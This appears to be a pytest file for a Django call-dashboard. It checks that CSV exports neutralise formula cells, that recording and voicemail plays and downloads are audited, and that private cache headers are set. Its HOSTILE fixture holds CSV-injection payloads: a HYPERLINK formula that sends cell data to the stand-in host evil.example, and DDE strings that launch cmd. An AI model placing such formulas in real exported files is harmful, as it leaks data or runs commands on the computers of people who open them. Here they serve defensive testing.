"""What leaves the dashboard as a file (CSV, recordings, voicemail, PCAPs): cells a spreadsheet
would run are neutralised, every delivery is audited, and the headers keep it private."""

from __future__ import annotations

import csv
import io

import pytest
import requests
from django.utils import timezone

from dashboard.export import safe_cell
from dashboard.models import AuditEntry
from tests.sign_in import sign_in

# Cells an attacker who can name a contact or write a note controls, in the upstream's CSV.
HOSTILE = {
    "src_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "dst_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "clid": "+1+cmd|' /C calc'!A0",
    "t_cause": "-2+3",
    # A newline inside a quoted cell: the formula-looking second line is not a cell start.
    "info": 'first line, "quoted"\n=not a cell start',
    "disposition": "\t=tab first",
}


@pytest.fixture
def hostile_call(sandbox_demo):
    """A call of the demo agent whose text fields start like spreadsheet formulas."""
    from sandbox.models import Cdr

    agent = sandbox_demo.agent
    return Cdr.objects.create(
        customer_id=agent.customer_id,
        user_id=agent.user_id,
        calldate=timezone.now(),
        type="I",
        live_id=987654,
        src="+442071234567",
        dst="1001",
        **HOSTILE,
    )


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_it_neutralises_formulas_in_a_users_csv(
    supervisor_client, sandbox_url, sandbox_demo, hostile_call
):
    response = supervisor_client.get(f"/calls/users/{sandbox_demo.agent.user_id}.csv")

    assert response.status_code == 200
    header, *rows = _csv_rows(response)
    row = next(row for row in rows if row[header.index("id")] == str(hostile_call.pk))
    cell = dict(zip(header, row, strict=True))
    for name, text in HOSTILE.items():
        if name == "info":
            assert cell[name] == text  # one cell, newline and all, starting harmlessly
        else:
            assert cell[name] == "'" + text, name
    assert cell["src"] == "+442071234567"  # a phone number stays a phone number
    # Every row came through, and whole: the upstream's own rows, only neutralised.
    upstream = requests.get(
        f"{sandbox_url}/users/{sandbox_demo.agent.user_id}/cdrs.csv",
        headers={"X-Auth-Token": sandbox_demo.supervisor.api_key},
        timeout=10,
    )
    upstream_rows = list(csv.reader(io.StringIO(upstream.text, newline="")))
    assert rows == [[safe_cell(value) for value in row] for row in upstream_rows[1:]]


def _fetch(client, path: str, **headers):
    response = client.get(path, headers=headers)
    if response.streaming:
        b"".join(response.streaming_content)
    return response


def test_it_audits_a_play_once_per_record_however_many_ranges_it_takes(
    supervisor_client, sandbox_demo
):
    monitor_id = sandbox_demo.records.monitor
    voicemail_id = sandbox_demo.records.voicemail_in_inbox

    # A player asks for the start, seeks twice, and plays the voicemail too.
    for span in ("bytes=0-", "bytes=5000-", "bytes=100-199"):
        assert (
            _fetch(supervisor_client, f"/recordings/{monitor_id}.mp3", Range=span).status_code
            == 206
        )
    _fetch(supervisor_client, f"/voicemail/{voicemail_id}.mp3")
    _fetch(supervisor_client, f"/voicemail/{voicemail_id}.mp3", Range="bytes=10-")

    plays = AuditEntry.objects.filter(action__endswith=".play").order_by("id")
    assert [(entry.action, entry.records) for entry in plays] == [
        ("recording.play", [monitor_id]),
        ("voicemail.play", [voicemail_id]),
    ]
    assert plays[0].user_label == sandbox_demo.supervisor.email


def test_it_audits_a_play_again_in_another_session(client, sandbox_url, sandbox_demo):
    monitor_id = sandbox_demo.records.monitor
    for _ in range(2):
        client.logout()
        sign_in(client, sandbox_demo.supervisor)
        _fetch(client, f"/recordings/{monitor_id}.mp3", Range="bytes=0-")
        _fetch(client, f"/recordings/{monitor_id}.mp3", Range="bytes=99-")

    assert AuditEntry.objects.filter(action="recording.play").count() == 2


def test_it_audits_no_play_for_a_head_request(supervisor_client, sandbox_demo):
    supervisor_client.head(f"/recordings/{sandbox_demo.records.monitor}.mp3")

    assert not AuditEntry.objects.exists()


@pytest.mark.parametrize(
    ("path", "action"),
    [
        ("/recordings/{monitor}.mp3?download=1", "recording.download"),
        ("/voicemail/{voicemail_in_inbox}.mp3?download=1", "voicemail.download"),
        ("/calls/{cdr_with_recording}.pcap", "call.pcap_download"),
        ("/media-sessions/{msdr}.pcap", "media_session.pcap_download"),
        ("/calls/export.csv", "call.export"),
        ("/calls/users/{agent}.csv", "call.user_csv"),
    ],
)
def test_it_audits_every_download(supervisor_client, sandbox_demo, path, action):
    ids = {**vars(sandbox_demo.records), "agent": sandbox_demo.agent.user_id}
    url = path.format(**ids)

    for _ in range(2):
        assert _fetch(supervisor_client, url).status_code == 200

    assert AuditEntry.objects.filter(action=action).count() == 2


@pytest.mark.parametrize(
    ("path", "cache_control"),
    [
        ("/recordings/{monitor}.mp3", "private, max-age=60"),
        ("/recordings/{monitor}.mp3?download=1", "private, max-age=60"),
        ("/voicemail/{voicemail_in_inbox}.mp3", "private, max-age=60"),
        ("/calls/{cdr_with_recording}.pcap", "private, no-store"),
        ("/media-sessions/{msdr}.pcap", "private, no-store"),
        ("/calls/export.csv", "private, no-store"),
        ("/calls/users/{agent}.csv", "private, no-store"),
    ],
)
def test_it_keeps_files_out_of_shared_caches_and_unsniffed(
    supervisor_client, sandbox_demo, path, cache_control
):
    ids = {**vars(sandbox_demo.records), "agent": sandbox_demo.agent.user_id}

    response = _fetch(supervisor_client, path.format(**ids))

    assert response.status_code == 200
    assert response["Cache-Control"] == cache_control
    assert response["X-Content-Type-Options"] == "nosniff"


def test_it_keeps_the_cache_rules_on_a_range_and_a_304(supervisor_client, sandbox_demo):
    path = f"/recordings/{sandbox_demo.records.monitor}.mp3"
    ranged = _fetch(supervisor_client, path, Range="bytes=0-99")
    unchanged = _fetch(supervisor_client, path, If_None_Match=ranged["ETag"])

    assert (ranged.status_code, unchanged.status_code) == (206, 304)
    assert ranged["Cache-Control"] == unchanged["Cache-Control"] == "private, max-age=60"
